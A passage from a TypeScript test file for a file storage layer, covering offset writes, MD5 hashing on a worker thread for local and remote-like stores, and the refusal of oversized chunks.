    expect(await store.writeAt('inplace/data', 0, Readable.from([before]))).toBe(before.length);
    const chunk = randomBytes(2 * 1024 * 1024 + 12_345);
    expect(await store.writeAt('inplace/data', 500_000, piecesOf(chunk), { maxBytes: chunk.length })).toBe(
      chunk.length,
    );
    const expected = Buffer.from(before);
    chunk.copy(expected, 500_000);
    const found = await store.read('inplace/data');
    const parts: Buffer[] = [];
    for await (const part of found!.stream as AsyncIterable<Buffer>) parts.push(part);
    expect(md5(Buffer.concat(parts))).toBe(md5(expected));
    await store.persist('inplace/data');
    await store.remove('inplace');
  });

  test('the MD5 thread hashes a local file by reading it itself, a store without local files through its reads', async () => {
    /** A store whose objects the thread cannot open (as an object store's): it must hash what `read` gives. */
    class RemoteLikeStorage extends LocalFileStorage {
      override localPath(): null {
        return null;
      }
    }
    const local = storage();
    const remote = new RemoteLikeStorage(path.join(t.config.dataDir, 'files'));
    // Larger than one request of the thread (8 MiB), not a whole number of its pieces.
    const data = randomBytes(19 * 1024 * 1024 + 4321);
    await local.write('hashing/data', data);
    const thread = new Md5Thread();
    try {
      for (const store of [local, remote]) {
        expect(await UploadHasher.whole(store, thread, 'hashing/data', data.length)).toBe(md5(data));
        // Asked for more bytes than the file holds: an error, never the MD5 of what is there.
        await expect(UploadHasher.whole(store, thread, 'hashing/data', data.length + 1)).rejects.toThrow();
      }
    } finally {
      await thread.close();
      await local.remove('hashing');
    }
  });

  test('a chunk longer than allowed is refused', async () => {
    const store = storage();
    await expect(
      store.writeAt('toolong/data', 0, piecesOf(randomBytes(3_000_000)), { maxBytes: 2_000_000 }),
    ).rejects.toMatchObject({ key: 'file.tooLarge' });
    await store.remove('toolong');
  });
});
